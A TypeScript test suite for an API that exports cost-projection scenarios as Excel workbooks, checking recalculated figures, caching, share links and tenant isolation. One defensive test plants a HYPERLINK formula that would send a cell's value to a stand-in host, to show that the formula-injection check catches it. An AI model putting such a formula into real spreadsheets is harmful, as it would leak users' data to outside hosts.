import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { SHEETS } from '../../src/modules/workbook/layout.js'
import { XLSX_MEDIA_TYPE } from '../../src/modules/workbook/workbook.service.js'
import { bearer, buildTestApp, call, createTenant, expectProblem, type Tenant } from '../helpers/app.js'
import {
  type CommitmentSettings,
  expectedFigures,
  formulaFindings,
  type Grid,
  mismatches,
  readGrid,
  recalculateWithHyperFormula,
} from '../helpers/workbook-check.js'
import {
  type BuiltScenario,
  buildScenario,
  HOSTILE_TEXTS,
  type Send,
  WORKBOOK_SCENARIOS,
} from '../helpers/workbook-scenarios.js'

/**
 * The workbook of a stored scenario, end to end: downloaded over HTTP, recalculated from its own input cells by
 * a JavaScript formula engine (HyperFormula), and every live figure compared with the projection's — the monthly,
 * yearly and term spend of each workload and of the portfolio, the waterfall and each option's deterministic
 * commitment figures — to the cent. A formula made wrong is caught. Every formula is the builder's own and every
 * text a user wrote is a string cell.
 */
let app: FastifyInstance
let tenant: Tenant
let other: Tenant

beforeAll(async () => {
  app = await buildTestApp()
  tenant = await createTenant(app, 'workbook')
  other = await createTenant(app, 'workbook-other')
})
afterAll(async () => app?.close())

const send: Send = async (method, url, body) => {
  const response = await call(app, {
    method,
    url,
    headers: bearer(tenant.keys.write),
    ...(body === undefined ? {} : { payload: body as object }),
  })
  return { status: response.statusCode, json: () => response.json() }
}

let counter = 0
const built = new Map<string, Promise<BuiltScenario>>()
function scenario(index: number): Promise<BuiltScenario> {
  const definition = WORKBOOK_SCENARIOS[index]!
  let found = built.get(definition.name)
  if (!found) {
    found = buildScenario(send, definition, ` ${process.pid}-${++counter}`)
    built.set(definition.name, found)
  }
  return found
}

async function download(url: string, headers: Record<string, string> = {}) {
  return app.inject({ method: 'GET', url, headers: { ...bearer(tenant.keys.read), ...headers } })
}

function settingsOf(index: number): CommitmentSettings {
  const commitment = WORKBOOK_SCENARIOS[index]!.scenario.commitment as {
    discountTiers?: CommitmentSettings['tiers']
    overage?: CommitmentSettings['overage']
  }
  return { tiers: commitment.discountTiers ?? [], overage: commitment.overage ?? 'discounted' }
}

describe('the workbook recalculates to the projection’s figures', () => {
  for (const [index, definition] of WORKBOOK_SCENARIOS.entries()) {
    it(`${definition.name}: every live figure to the cent (HyperFormula)`, async () => {
      const built = await scenario(index)
      const projection = await download(built.projection)
      expect(projection.statusCode).toBe(200)
      const plan = projection.json()
      const answer = await download(built.workbook)
      expect(answer.statusCode).toBe(200)
      expect(answer.headers['content-type']).toBe(XLSX_MEDIA_TYPE)
      expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="[A-Za-z0-9._-]+\.xlsx"$/)
      const grid = await readGrid(answer.rawPayload)
      expect([...grid.keys()]).toEqual(Object.values(SHEETS))
      const figures = expectedFigures(plan, settingsOf(index))
      expect(figures.length).toBeGreaterThan(50)
      expect(mismatches(figures, recalculateWithHyperFormula(grid))).toEqual([])
    })
  }
})

/** The grid with one formula changed. */
function withFormula(
  grid: Grid,
  sheet: string,
  row: number,
  col: number,
  change: (formula: string) => string,
): Grid {
  const copy: Grid = new Map(
    [...grid].map(([name, rows]) => [name, rows.map((cells) => (cells ? [...cells] : cells))]),
  )
  const cell = copy.get(sheet)![row - 1]![col - 1]
  if (cell === null || typeof cell !== 'object')
    throw new Error(`${sheet} row ${row} col ${col} is not a formula`)
  const changed = change(cell.formula)
  if (changed === cell.formula) throw new Error('the change changed nothing')
  copy.get(sheet)![row - 1]![col - 1] = { formula: changed }
  return copy
}

describe('a wrong formula is caught', () => {
  it('in a request cost, a ramp, a waterfall bar and an option’s payment', async () => {
    const index = 1
    const built = await scenario(index)
    const plan = (await download(built.projection)).json()
    const grid = await readGrid((await download(built.workbook)).rawPayload)
    const figures = expectedFigures(plan, settingsOf(index))
    const { layoutOfPlan } = await import('../helpers/workbook-check.js')
    const layout = layoutOfPlan(plan)
    expect(mismatches(figures, recalculateWithHyperFormula(grid))).toEqual([])

    const cases: { grid: Grid; expect: RegExp }[] = [
      {
        // The cache read price of the first workload's model, 0.01% off.
        grid: withFormula(
          grid,
          SHEETS.requestCosts,
          layout.requestCosts.row(0),
          layout.requestCosts.segment('base', 'read'),
          (f) => `${f}*1.0001`,
        ),
        expect: /^Workload 0 /,
      },
      {
        // Caching's ramp one month short (the second lever: (m − s + 2) instead of (m − s + 1)).
        grid: withFormula(
          grid,
          SHEETS.monthly,
          layout.monthly.row(3),
          layout.monthly.adoption.caching!,
          (f) => f.replace('+1)/', '+2)/'),
        ),
        expect: /^Monthly 3 adoption caching$/,
      },
      {
        // The waterfall's first bar from the wrong corner.
        grid: withFormula(grid, SHEETS.monthly, layout.monthly.row(0), layout.monthly.bar(1), (f) =>
          f.replace(/^(\$?[A-Z]+\$?\d+)/, '0*$1'),
        ),
        expect: /^Waterfall routing after$/,
      },
      {
        // Overage at list billed as if discounted.
        grid: withFormula(
          grid,
          SHEETS.options,
          layout.options.row(1),
          layout.options.period(0, 'payment'),
          (f) => f.replace('"list"', '"x"'),
        ),
        expect: /^Option 2 .* period 1 payment$/,
      },
    ]
    for (const mutation of cases) {
      const wrong = mismatches(figures, recalculateWithHyperFormula(mutation.grid))
      expect(wrong.length).toBeGreaterThan(0)
      expect(wrong.map((w) => w.label).some((label) => mutation.expect.test(label))).toBe(true)
    }
  })
})

describe('no user text is ever a formula', () => {
  it('every <f> is the builder’s, has no cached value, and every text a user wrote is a string cell', async () => {
    const index = 1
    const built = await scenario(index)
    const answer = await download(built.workbook)
    // What the user wrote, as the API stored it (names, kinds, teams, tags, the portfolio and scenario names).
    const workloads = (await download(`/v1/portfolios/${built.portfolioId}/workloads?limit=100`)).json().data
    const portfolio = (await download(`/v1/portfolios/${built.portfolioId}`)).json()
    const stored = (
      await download(`/v1/portfolios/${built.portfolioId}/scenarios/${built.scenarioId}`)
    ).json()
    const texts = [
      portfolio.name,
      stored.name,
      ...workloads.flatMap(
        (w: { name: string; kind: string | null; team: string | null; tags: string[] }) => [
          w.name,
          w.kind,
          w.team,
          ...w.tags,
        ],
      ),
    ].filter((t): t is string => typeof t === 'string' && t.length > 0)
    for (const hostile of HOSTILE_TEXTS.slice(0, 4)) expect(texts.some((t) => t.includes(hostile))).toBe(true)
    expect(formulaFindings(answer.rawPayload, texts)).toEqual([])

    // And read back, each is the text it was, not a computed value.
    const grid = await readGrid(answer.rawPayload)
    const names = grid
      .get(SHEETS.workloads)!
      .slice(1)
      .map((row) => row[0])
    expect(names).toEqual(workloads.map((w: { name: string }) => w.name))
    const book = recalculateWithHyperFormula(grid)
    expect(book.value(SHEETS.workloads, 2, 1)).toBe(HOSTILE_TEXTS[0])
  })

  it('a custom price book’s model ids and names are text too', async () => {
    const built = await scenario(2)
    const answer = await download(built.workbook)
    const texts = ['+acme-sonnet-long', HOSTILE_TEXTS[0], HOSTILE_TEXTS[3]]
    expect(formulaFindings(answer.rawPayload, texts)).toEqual([])
  })

  it('is the same bytes whenever it is made (a strong ETag): every zip entry carries the fixed date', async () => {
    const built = await scenario(1)
    const { entryTimes } = await import('../helpers/zip.js')
    const times = entryTimes((await download(built.workbook)).rawPayload)
    expect(times.size).toBeGreaterThan(10)
    // 1980-01-01 00:00 in MS-DOS form: (1980 − 1980) << 9 | 1 << 5 | 1, and time 0. The theme and the package
    // relationships, which exceljs writes first, carried the current time (two downloads seconds apart differed).
    for (const [name, time] of times) expect({ name, ...time }).toEqual({ name, dosDate: 33, dosTime: 0 })
  })

  it('the safety check itself finds a formula made of user text', async () => {
    const built = await scenario(1)
    const answer = await download(built.workbook)
    const { unzip } = await import('../helpers/zip.js')
    const files = unzip(answer.rawPayload)
    const sheet = [...files.keys()].find((p) => p.startsWith('xl/worksheets/'))!
    const xml = files
      .get(sheet)!
      .toString('utf8')
      .replace(/<f>[^<]*<\/f>/, '<f>HYPERLINK("http://x/?"&amp;A1)</f>')
    const { zipSync } = await import('../helpers/zip.js')
    files.set(sheet, Buffer.from(xml))
    const findings = formulaFindings(zipSync(files), ['=HYPERLINK("http://x/?"&A1)'])
    expect(findings.some((f) => /unknown literal|unknown function/.test(f))).toBe(true)
  })
})

describe('the workbook as a resource', () => {
  it('has an ETag per plan revision: 304 while the plan holds, a new one when an input changes', async () => {
    const built = await scenario(0)
    const first = await download(built.workbook)
    const etag = first.headers.etag as string
    expect(etag).toMatch(/^"workbook-v1\.[A-Za-z0-9_-]+"$/)
    const again = await download(built.workbook)
    expect(again.headers.etag).toBe(etag)
    // The same plan gives the same bytes (the file's dates are fixed), as a strong ETag promises.
    expect(Buffer.compare(again.rawPayload, first.rawPayload)).toBe(0)
    const notModified = await download(built.workbook, { 'if-none-match': etag })
    expect(notModified.statusCode).toBe(304)
    expect(notModified.body).toBe('')

    const workloads = (await download(`/v1/portfolios/${built.portfolioId}/workloads`)).json().data
    const current = await download(`/v1/portfolios/${built.portfolioId}/workloads/${workloads[0].id}`)
    const patched = await call(app, {
      method: 'PATCH',
      url: `/v1/portfolios/${built.portfolioId}/workloads/${workloads[0].id}`,
      headers: { ...bearer(tenant.keys.write), 'if-match': current.headers.etag as string },
      payload: { requestsPerMonth: '130000' },
    })
    expect(patched.statusCode).toBe(200)
    const changed = await download(built.workbook, { 'if-none-match': etag })
    expect(changed.statusCode).toBe(200)
    expect(changed.headers.etag).not.toBe(etag)
    const grid = await readGrid(changed.rawPayload)
    expect(grid.get(SHEETS.workloads)![1]![6]).toBe(130000)
  })

  it('of a portfolio without workloads answers what the projection answers', async () => {
    const portfolio = (
      await send('POST', '/v1/portfolios', { name: `empty ${process.pid}-${++counter}` })
    ).json() as {
      id: string
    }
    const created = (await send('POST', `/v1/portfolios/${portfolio.id}/scenarios`, {
      name: 'nothing yet',
      term: { start: '2027-01-01', months: 12 },
      levers: [],
    })) as { status: number; json: () => unknown }
    expect(created.status).toBe(201)
    const path = `/v1/portfolios/${portfolio.id}/scenarios/${(created.json() as { id: string }).id}`
    const projection = await download(`${path}/projection`)
    const workbook = await download(`${path}/workbook`)
    expect(workbook.statusCode).toBe(projection.statusCode)
    if (projection.statusCode >= 400) expect(workbook.json().code).toBe(projection.json().code)
    else
      expect(
        mismatches(
          expectedFigures(projection.json(), { tiers: [], overage: 'discounted' }),
          recalculateWithHyperFormula(await readGrid(workbook.rawPayload)),
        ),
      ).toEqual([])
  })

  it('a spreadsheet pulls it through a share link, without a key', async () => {
    const built = await scenario(0)
    const link = await call(app, {
      method: 'POST',
      url: '/v1/share-links',
      headers: bearer(tenant.keys.read),
      payload: { path: built.workbook },
    })
    expect(link.statusCode).toBe(201)
    const url = new URL((link.json() as { url: string }).url)
    const pulled = await app.inject({ method: 'GET', url: `${url.pathname}${url.search}` })
    expect(pulled.statusCode).toBe(200)
    expect(pulled.headers['content-type']).toBe(XLSX_MEDIA_TYPE)
    expect(Buffer.compare(pulled.rawPayload, (await download(built.workbook)).rawPayload)).toBe(0)
  })

  it('is another organization’s 404, needs a key, and a read key is enough', async () => {
    const built = await scenario(0)
    const foreign = await call(app, { method: 'GET', url: built.workbook, headers: bearer(other.keys.read) })
    expectProblem(foreign, 404, 'NOT_FOUND')
    const anonymous = await call(app, { method: 'GET', url: built.workbook })
    expect(anonymous.statusCode).toBe(401)
    const unknown = await call(app, {
      method: 'GET',
      url: `/v1/portfolios/${built.portfolioId}/scenarios/00000000-0000-4000-8000-000000000000/workbook`,
      headers: bearer(tenant.keys.read),
    })
    expectProblem(unknown, 404, 'NOT_FOUND')
  })
})
